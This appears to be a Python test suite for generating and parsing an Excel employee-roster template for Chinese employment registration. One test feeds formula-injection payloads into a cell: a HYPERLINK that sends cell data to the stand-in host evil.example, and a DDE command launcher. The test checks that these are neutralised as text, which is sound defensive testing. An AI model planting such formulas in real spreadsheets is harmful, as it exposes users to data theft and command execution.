"""The employee sheet (员工花名册): a Shangrao factory fills the template in Excel and uploads it.

Rows are typed the way an employer types them — labels from the drop-downs, date cells, an ID
number that Excel took for a number — and read back into ``form.employees``; every problem names
the sheet row and column.
"""

from __future__ import annotations

import io
import zipfile
from collections.abc import Mapping, Sequence
from datetime import date, datetime
from typing import Any

import pytest
from openpyxl import Workbook, load_workbook
from stdnum.cn import ric

from lianban.catalog.catalogue import default_catalogue
from lianban.catalog.model import FieldType
from lianban.forms.regions import shipped_regions
from lianban.forms.sheet import (
    NotAnEmployerTheme,
    SheetRefused,
    build_sheet,
    employee_sheet_template,
    read_employee_sheet,
)
from lianban.forms.submission import check_submission
from lianban_sandbox.registry import sandbox_hires, sandbox_hub

CAT = default_catalogue()
SHANGRAO = CAT.theme("shangrao.recruitment")
ZIBO = CAT.theme("zibo.unit-employment")
HUB = sandbox_hub()
HIRES = sandbox_hires(3, SHANGRAO.id, catalogue=CAT, hub=HUB)


def typed(row: Mapping[str, Any]) -> dict[str, Any]:
    """A canonical row as an employer types it: labels, date cells, numbers (by column key)."""
    out: dict[str, Any] = {}
    for key, value in row.items():
        d = CAT.fields[key]
        labels = {c.code: c.label for c in CAT.code_lists[d.code_list]} if d.code_list else {}
        if d.type is FieldType.CODE:
            out[key] = labels[value]
        elif d.type is FieldType.CODES:
            out[key] = "、".join(labels[v] for v in value)
        elif d.type is FieldType.DATE:
            out[key] = date.fromisoformat(value)
        elif d.type is FieldType.MONTH:
            out[key] = date.fromisoformat(value + "-01")
        elif d.type is FieldType.DATE_RANGE:
            out[f"{key}.start"] = date.fromisoformat(value["start"])
            out[f"{key}.end"] = date.fromisoformat(value["end"])
        elif d.type is FieldType.ADDRESS:
            out[f"{key}.detail"], out[f"{key}.region"] = value["detail"], value["region"]
        elif d.type in (FieldType.MONEY, FieldType.PERCENT):
            out[key] = float(value)
        else:
            out[key] = value
    return out


def fill(template: bytes, rows: Sequence[Mapping[str, Any]], first_row: int = 3) -> bytes:
    """Type ``rows`` (column key → cell value) into the template, as an employer does in Excel."""
    book = load_workbook(io.BytesIO(template))
    ws = book.worksheets[0]
    where = {ws.cell(2, j).value: j for j in range(1, ws.max_column + 1)}
    for i, row in enumerate(rows):
        for key, value in row.items():
            ws.cell(first_row + i, where[key], value)
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def shangrao_sheet(rows: Sequence[Mapping[str, Any]]) -> bytes:
    return fill(employee_sheet_template(CAT, SHANGRAO), rows)


def id_with_check(body17: str) -> str:
    return body17 + ric.calc_check_digit(body17 + "0")


# ---------------------------------------------------------------------------------------- template


def test_the_template_has_one_column_per_employee_field_with_keys_formats_and_instructions() -> None:
    book = load_workbook(io.BytesIO(employee_sheet_template(CAT, SHANGRAO)))
    assert book.sheetnames[:2] == ["员工花名册", "填表说明"]
    ws = book["员工花名册"]
    labels = [c.value for c in ws[1]]
    keys = [c.value for c in ws[2]]
    assert labels[0] == "*公民身份号码" and keys[0] == "person.id_number"  # the batch table's order
    assert ws.row_dimensions[2].hidden
    assert "employment.contract_period.start" in keys and "employment.contract_period.end" in keys
    assert "housing_fund.unit_amount" not in keys  # 月缴存额 is computed by the platform
    assert "housing_fund.relief" not in keys  # shown only when the employer applies for relief
    column = {k: ws.cell(1, j + 1).column_letter for j, k in enumerate(keys)}
    assert ws.column_dimensions[column["person.id_number"]].number_format == "@"  # not 3.6E+17
    assert ws.column_dimensions[column["employment.contract_period.start"]].number_format == "yyyy-mm-dd"
    lists = {str(dv.sqref).split(":")[0].rstrip("0123456789") for dv in ws.data_validations.dataValidation}
    assert {column["person.ethnicity"], column["person.gender"]} <= lists
    guide = [row for row in book["填表说明"].iter_rows(values_only=True) if row[0] == column["person.name"]]
    assert guide[0][1:3] == ("姓名", "是") and "人口库" in guide[0][4]
    zibo = load_workbook(io.BytesIO(employee_sheet_template(CAT, ZIBO))).worksheets[0]
    assert "person.birth_date" in [c.value for c in zibo[2]]  # themes are data: Zibo's own fields


def test_a_persons_theme_has_no_employee_sheet() -> None:
    with pytest.raises(NotAnEmployerTheme):
        employee_sheet_template(CAT, CAT.theme("hubei.graduate-employment"))


@pytest.mark.parametrize(
    "typed_text",
    ['=HYPERLINK("http://evil.example/?"&A3,"点击查看")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)"],
)
def test_text_that_starts_like_a_formula_is_exported_as_text_never_as_a_formula(typed_text: str) -> None:
    """An occupation typed as ``=HYPERLINK(…)`` (formula injection, CSV/DDE): a sheet written with
    it holds a text cell with Excel's quote prefix — shown as typed, never evaluated — and reads
    back as typed."""
    row = {**HIRES[0], "employment.occupation": typed_text}
    data = build_sheet(CAT, SHANGRAO, [row])
    ws = load_workbook(io.BytesIO(data)).worksheets[0]
    column = [c.value for c in ws[2]].index("employment.occupation") + 1
    cell = ws.cell(3, column)
    assert cell.data_type == "s" and cell.quotePrefix
    assert cell.value == typed_text
    with zipfile.ZipFile(io.BytesIO(data)) as package:
        assert b"<f>" not in package.read("xl/worksheets/sheet1.xml")
    assert (
        read_employee_sheet(CAT, SHANGRAO, data, regions=shipped_regions()).employees[0][
            "employment.occupation"
        ]
        == typed_text
    )


# ---------------------------------------------------------------------------------------- reading


def test_an_employer_fills_the_template_and_reads_back_what_it_typed() -> None:
    result = read_employee_sheet(
        CAT, SHANGRAO, shangrao_sheet([typed(r) for r in HIRES]), regions=shipped_regions()
    )
    assert result.errors == []
    assert result.rows == [3, 4, 5]
    assert result.employees == HIRES


def test_excel_date_cells_become_iso_dates_and_months() -> None:
    row = typed(HIRES[0]) | {
        "employment.contract_period.start": datetime(2026, 11, 2, 0, 0),
        "employment.contract_period.end": datetime(2029, 11, 1),
        "insurance.start_month": datetime(2026, 11, 1),
    }
    employee = read_employee_sheet(CAT, SHANGRAO, shangrao_sheet([row]), regions=shipped_regions()).employees[
        0
    ]
    assert employee["employment.contract_period"] == {"start": "2026-11-02", "end": "2029-11-01"}
    assert employee["insurance.start_month"] == "2026-11"


def test_a_phone_number_or_division_code_typed_as_a_number_is_read_as_its_digits() -> None:
    row = typed(HIRES[0]) | {"person.mobile": 13791112222.0, "person.mailing_address.region": 361102}
    result = read_employee_sheet(CAT, SHANGRAO, shangrao_sheet([row]), regions=shipped_regions())
    assert result.errors == []
    assert result.employees[0]["person.mobile"] == "13791112222"
    assert result.employees[0]["person.mailing_address"]["region"] == "361102"


def test_an_id_number_typed_as_a_number_says_to_format_the_column_as_text() -> None:
    """Excel keeps 15 significant digits: an 18-digit ID typed into a number cell loses its end."""
    number = HIRES[0]["person.id_number"].replace("X", "1")
    result = read_employee_sheet(
        CAT,
        SHANGRAO,
        shangrao_sheet([typed(HIRES[0]) | {"person.id_number": int(number)}]),
        regions=shipped_regions(),
    )
    assert result.employees[0]["person.id_number"].isdigit()  # digits, not 3.6E+17 nor ".0"
    assert len(result.employees[0]["person.id_number"]) == 18
    issue = next(i for i in result.errors if i.field == "employees[0].person.id_number")
    assert issue.message_zh.startswith("第 3 行 A 列（公民身份号码）：")
    assert "设为文本格式" in issue.message_zh


def test_option_labels_become_codes() -> None:
    row = typed(HIRES[0]) | {
        "person.ethnicity": "回族",
        "person.gender": "女",
        "person.hukou_category": "省外农业户口",
        "insurance.types": "养老保险、工伤保险，失业保险",
        "education.level": "大学本科毕业",
    }
    employee = read_employee_sheet(CAT, SHANGRAO, shangrao_sheet([row]), regions=shipped_regions()).employees[
        0
    ]
    assert employee["person.ethnicity"] == "03"
    assert employee["person.gender"] == "2"
    assert employee["person.hukou_category"] == "6"
    assert employee["insurance.types"] == ["pension", "work_injury", "unemployment"]
    assert employee["education.level"] == "21"


def test_a_percentage_cell_is_read_as_a_percentage() -> None:
    book = load_workbook(io.BytesIO(shangrao_sheet([typed(HIRES[0])])))
    ws = book.worksheets[0]
    j = next(c.column for c in ws[2] if c.value == "housing_fund.unit_rate")
    ws.cell(3, j, 0.1).number_format = "0%"
    out = io.BytesIO()
    book.save(out)
    assert (
        read_employee_sheet(CAT, SHANGRAO, out.getvalue(), regions=shipped_regions()).employees[0][
            "housing_fund.unit_rate"
        ]
        == "10"
    )


def test_a_bad_check_digit_names_the_row_and_the_column() -> None:
    number = HIRES[1]["person.id_number"]
    wrong = number[:17] + ("0" if number[17] != "0" else "1")
    result = read_employee_sheet(
        CAT,
        SHANGRAO,
        shangrao_sheet([typed(HIRES[0]), typed(HIRES[1]) | {"person.id_number": wrong}]),
        regions=shipped_regions(),
    )
    assert [(i.field, i.code) for i in result.errors] == [("employees[1].person.id_number", "checksum")]
    assert result.errors[0].message_zh == f"第 4 行 A 列（公民身份号码）：校验位错误：应为 {number[17]}"
    assert result.errors[0].message_en.startswith("row 4, column A (Resident ID number)")
    assert result.employees[1]["person.id_number"] == wrong  # the employer sees what it typed


def test_a_typed_value_that_differs_from_the_register_is_named_and_kept_as_typed() -> None:
    def sharing(rows: Sequence[Mapping[str, Any]]) -> tuple[list[dict[str, Any]], list[dict[str, Any]]]:
        numbers = [str(r["person.id_number"]) for r in rows]
        return (
            [dict(HUB.prefill_person(n)) for n in numbers],
            [dict(HUB.facts(id_number=n, province_code=SHANGRAO.region_code)) for n in numbers],
        )

    rows = [typed(HIRES[0]), typed(HIRES[1]) | {"person.name": "张冒名"}]
    result = read_employee_sheet(
        CAT, SHANGRAO, shangrao_sheet(rows), sharing=sharing, regions=shipped_regions()
    )
    assert [(i.field, i.code) for i in result.errors] == [("employees[1].person.name", "locked")]
    assert result.errors[0].message_zh.startswith("第 4 行 B 列（姓名）：")
    assert result.employees[1]["person.name"] == "张冒名"


def test_empty_rows_are_skipped_and_rows_keep_their_sheet_numbers() -> None:
    bad = typed(HIRES[1]) | {"person.mobile": "12345"}
    data = fill(employee_sheet_template(CAT, SHANGRAO), [typed(HIRES[0]), {"person.name": "  "}, {}, bad])
    result = read_employee_sheet(CAT, SHANGRAO, data, regions=shipped_regions())
    assert result.rows == [3, 6]
    assert len(result.employees) == 2
    assert [i.field for i in result.errors] == ["employees[1].person.mobile"]
    assert result.errors[0].message_zh.startswith("第 6 行 H 列（手机号码）：")


def test_an_unknown_column_is_named_by_its_letter_and_heading_and_a_running_number_is_ignored() -> None:
    book = load_workbook(io.BytesIO(shangrao_sheet([typed(HIRES[0])])))
    ws = book.worksheets[0]
    last = ws.max_column
    ws.cell(1, last + 1, "血型")
    ws.cell(3, last + 1, "A")
    ws.cell(1, last + 2, "序号")
    ws.cell(3, last + 2, 1)
    out = io.BytesIO()
    book.save(out)
    result = read_employee_sheet(CAT, SHANGRAO, out.getvalue(), regions=shipped_regions())
    letter = ws.cell(1, last + 1).column_letter
    assert [i.field for i in result.errors] == [f"columns.{letter}"]
    assert f"{letter} 列" in result.errors[0].message_zh and "血型" in result.errors[0].message_zh
    assert result.employees == HIRES[:1]


def test_a_reordered_sheet_with_the_paper_forms_titles_and_no_key_row_still_maps() -> None:
    """An employer's own sheet: the headings of 附件1 (身份证号码 …), columns in its own order."""
    template = load_workbook(io.BytesIO(shangrao_sheet([typed(r) for r in HIRES]))).worksheets[0]
    columns = list(template.iter_cols(values_only=True))[::-1]
    titles = {c.key: c.title for c in SHANGRAO.batch_table.columns} if SHANGRAO.batch_table else {}
    book = Workbook()
    ws = book.active
    assert ws is not None
    for j, (label, key, *cells) in enumerate(columns, start=1):
        ws.cell(1, j, titles.get(str(key), str(label)))
        for i, value in enumerate(cells, start=2):
            ws.cell(i, j, value)
    out = io.BytesIO()
    book.save(out)
    result = read_employee_sheet(CAT, SHANGRAO, out.getvalue(), regions=shipped_regions())
    assert result.errors == []
    assert result.rows == [2, 3, 4]
    assert result.employees == HIRES


def test_a_missing_required_column_is_named_for_each_row() -> None:
    book = Workbook()
    ws = book.active
    assert ws is not None
    ws.append(["身份证号码", "姓名"])
    ws.append([HIRES[0]["person.id_number"], "王强"])
    out = io.BytesIO()
    book.save(out)
    result = read_employee_sheet(CAT, SHANGRAO, out.getvalue(), regions=shipped_regions())
    mobile = next(i for i in result.errors if i.field == "employees[0].person.mobile")
    assert mobile.message_zh == "第 2 行（手机号码，表中没有此栏）：请填写手机号码"


def test_the_same_person_twice_is_a_conflict() -> None:
    result = read_employee_sheet(
        CAT, SHANGRAO, shangrao_sheet([typed(HIRES[0]), typed(HIRES[0])]), regions=shipped_regions()
    )
    assert [(i.field, i.code) for i in result.errors] == [("employees[1].person.id_number", "conflict")]
    assert "与第 3 行重复" in result.errors[0].message_zh


def test_a_sheet_without_employees_says_so() -> None:
    result = read_employee_sheet(
        CAT, SHANGRAO, employee_sheet_template(CAT, SHANGRAO), regions=shipped_regions()
    )
    assert [(i.field, i.code) for i in result.errors] == [("employees", "required")]


def test_corrupt_and_foreign_files_are_refused() -> None:
    good = shangrao_sheet([typed(HIRES[0])])
    for data, says in (
        ("id_number,name\n361102,王强\n".encode(), ".xlsx"),
        (good[: len(good) // 2], ".xlsx"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 512, ".xls"),
        (b"PK\x03\x04" + b"\0" * 100, ".xlsx"),
    ):
        with pytest.raises(SheetRefused) as refused:
            read_employee_sheet(CAT, SHANGRAO, data, regions=shipped_regions())
        assert says in refused.value.message_zh
        assert refused.value.issue.field == "file"


def test_more_rows_than_allowed_are_refused() -> None:
    with pytest.raises(SheetRefused) as refused:
        read_employee_sheet(
            CAT, SHANGRAO, shangrao_sheet([typed(r) for r in HIRES]), max_rows=2, regions=shipped_regions()
        )
    assert "超过 2 名" in refused.value.message_zh


def test_an_english_sheet_reads_back_the_same() -> None:
    data = build_sheet(CAT, SHANGRAO, HIRES, "en")
    book = load_workbook(io.BytesIO(data))
    assert book.sheetnames[:2] == ["Employees", "Instructions"]
    assert book.worksheets[0].cell(1, 1).value == "*Resident ID number"
    assert read_employee_sheet(CAT, SHANGRAO, data, regions=shipped_regions()).employees == HIRES


# ------------------------------------------------------------------------------------ sandbox hires


def _employee_errors(theme_id: str, rows: list[dict[str, Any]]) -> list[str]:
    theme = CAT.theme(theme_id)
    numbers = [r["person.id_number"] for r in rows]
    checked = check_submission(
        CAT,
        theme,
        items=None,
        situation=None,
        form={"employees": rows},
        employee_prefill=[dict(HUB.prefill_person(n)) for n in numbers],
        employee_facts=[dict(HUB.facts(id_number=n, province_code=theme.region_code)) for n in numbers],
        today=date.today(),
        regions=shipped_regions(),
    )
    return [i.field for i in checked.errors if i.field.startswith("employees[")]


def test_a_thousand_sandbox_hires_for_shangrao_pass_validation() -> None:
    rows = sandbox_hires(1000, SHANGRAO.id, catalogue=CAT, hub=HUB)
    assert len(rows) == 1000
    assert len({r["person.id_number"] for r in rows}) == 1000
    assert all(ric.is_valid(r["person.id_number"]) for r in rows)
    assert _employee_errors(SHANGRAO.id, rows) == []


def test_sandbox_hires_follow_the_themes_fields_and_their_seed() -> None:
    rows = sandbox_hires(20, ZIBO.id, seed=7, catalogue=CAT, hub=HUB)
    assert _employee_errors(ZIBO.id, rows) == []
    assert {"person.birth_date", "employment.start_date", "social_card.service_bank"} <= set(rows[0])
    assert rows == sandbox_hires(20, ZIBO.id, seed=7, catalogue=CAT, hub=HUB)
    assert rows != sandbox_hires(20, ZIBO.id, seed=8, catalogue=CAT, hub=HUB)
    assert (
        read_employee_sheet(CAT, ZIBO, build_sheet(CAT, ZIBO, rows), regions=shipped_regions()).employees
        == rows
    )
    with pytest.raises(ValueError):
        sandbox_hires(1, "hubei.graduate-employment", catalogue=CAT, hub=HUB)
